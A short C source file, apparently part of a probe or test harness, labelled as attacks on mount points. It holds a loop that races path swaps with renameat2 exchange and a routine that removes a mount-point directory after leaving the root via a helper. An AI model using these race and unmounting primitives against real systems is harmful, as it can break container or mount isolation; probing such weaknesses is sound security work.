/* Attacks on the places of mounts. */
#include "probe.h"

/* Exchanges two names again and again, for some seconds on a usual machine. */
int change_places(const char *one, const char *other) {
    const unsigned exchange = 2;
    long done = 0, tries = PATIENCE * 5000L;
    for (long i = 0; i < tries; i++) {
        done += !syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, exchange);
        usleep(20);
    }
    if (done == tries)
        puts("SWAPPED");
    return 0;
}

/* Removes a mount point: in namespaces of its own, after leaving the root with its mounts. */
int remove_place(const char *directory, const char *name) {
    int opened = open(directory, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (opened < 0 || !leave_root())
        return 1;
    return unlinkat(opened, name, AT_REMOVEDIR) ? perror("unlinkat"), 1 : 0;
}
